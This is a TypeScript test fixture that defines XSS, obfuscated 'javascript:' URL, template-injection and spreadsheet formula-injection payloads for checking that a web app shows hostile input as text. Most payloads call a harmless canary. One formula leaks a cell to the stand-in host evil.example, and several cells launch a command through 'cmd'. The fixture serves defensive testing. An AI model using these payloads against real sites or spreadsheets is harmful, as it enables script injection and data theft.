// The hostile-payload corpus (docs/threat-model.md): every string that the XSS tests put into every field
// that is ever displayed. Each payload that would run calls the canary, and every element it would
// create carries `data-qsi-xss`, so a test can tell "shown as text" from "parsed as markup".

/** The code a payload runs if it ever executes: flags both the JS world and the shared DOM. */
export const CANARY = "window.__qsiXss=1;document.documentElement.setAttribute('data-qsi-xss-fired','1')";
/** The attribute every payload element carries. */
export const MARK = 'data-qsi-xss';

const P = CANARY;
const B64 = Buffer.from(`<script ${MARK}>${P}</script>`).toString('base64');

/** `javascript:` (and other script-capable scheme) spellings for URL fields and hrefs. */
export const HOSTILE_URLS: readonly string[] = [
  `javascript:${P}`,
  `JaVaScRiPt:${P}`,
  `JAVASCRIPT:${P}`,
  `  javascript:${P}`,
  `\u0001\u0002\u0003javascript:${P}`,
  `\u0000javascript:${P}`,
  `java\tscript:${P}`,
  `java\nscript:${P}`,
  `java\rscript:${P}`,
  `&#106;avascript:${P}`,
  `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${P}`,
  `&#0000106&#0000097vascript:${P}`,
  `javascript&colon;${P}`,
  `javascript%3A${P}`,
  `\u00A0\u2028javascript:${P}`,
  `data:text/html;base64,${B64}`,
  `data:text/html,<script ${MARK}>${P}</script>`,
  `DATA:text/html,<svg ${MARK} onload="${P}">`,
  'vbscript:msgbox(1)',
  'VBScript:Execute("x")',
  `//evil.example/%0Ajavascript:${P}`,
  `https://intranet.example-trust.nhs.uk/"><img src=x ${MARK} onerror="${P}">`,
  `https://intranet.example-trust.nhs.uk/p?q=</script><script ${MARK}>${P}</script>`,
];

/** Markup, template and spreadsheet payloads for every text field. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script ${MARK}>${P}</script>`,
  `<img src=x ${MARK} onerror="${P}">`,
  `<svg ${MARK} onload="${P}"></svg>`,
  `<svg><script ${MARK}>${P}</script></svg>`,
  `"><img src=x ${MARK} onerror="${P}">`,
  `'><svg/onload="${P}" ${MARK}>`,
  `</style><img src=x ${MARK} onerror="${P}">`,
  `</title><script ${MARK}>${P}</script>`,
  `</textarea><img src=x ${MARK} onerror="${P}">`,
  `</noscript><img src=x ${MARK} onerror="${P}">`,
  `<iframe ${MARK} src="javascript:${P}"></iframe>`,
  `<iframe ${MARK} srcdoc="<script>parent.${P}</script>"></iframe>`,
  `<a ${MARK} href="javascript:${P}">click me</a>`,
  `<body ${MARK} onload="${P}">`,
  `<details ${MARK} open ontoggle="${P}">x</details>`,
  `<input ${MARK} autofocus onfocus="${P}">`,
  `<math><mtext><table><mglyph><style><img src=x ${MARK} onerror="${P}">`,
  `<object ${MARK} data="javascript:${P}"></object>`,
  `<embed ${MARK} src="data:text/html,<script>${P}</script>">`,
  `<meta ${MARK} http-equiv="refresh" content="0;url=javascript:${P}">`,
  `<style ${MARK}>@import "javascript:${P}";</style>`,
  `<form ${MARK}><button formaction="javascript:${P}">go</button></form>`,
  `<video ${MARK}><source onerror="${P}"></video>`,
  `<marquee ${MARK} onstart="${P}">x</marquee>`,
  `{{constructor.constructor('${P}')()}}`,
  `\${${P}}`,
  `<%= ${P} %>`,
  `[click](javascript:${P})`,
  `%3Cscript%20${MARK}%3E${P}%3C%2Fscript%3E`,
  `&lt;img src=x ${MARK} onerror="${P}"&gt;`,
  `\u202Efdp.exe\u202C invoice \u202Egnp.js`,
  `\u200B\uFEFF\u2066<img src=x ${MARK} onerror="${P}">\u2069`,
  '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  ...HOSTILE_URLS.slice(0, 8),
];

/** A 100 kB string with a payload at its end (for fields without a length limit on read). */
export const LONG_PAYLOAD = `${'Long evidence text. '.repeat(5_000)}<img src=x ${MARK} onerror="${P}">`;

/** Every payload, for counting. */
export const ALL_PAYLOADS: readonly string[] = [...HOSTILE_TEXTS, ...HOSTILE_URLS, LONG_PAYLOAD];

/** Short, distinctive, visible-as-text excerpts: if these show up in a surface's text, markup was not parsed. */
export const VISIBLE_SAMPLES: readonly string[] = [
  `<script ${MARK}>`,
  `<img src=x ${MARK} onerror=`,
  `<svg ${MARK} onload=`,
];

/** Cells a spreadsheet would treat as a formula (OWASP CSV injection), incl. the full-width `＝`. */
export const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
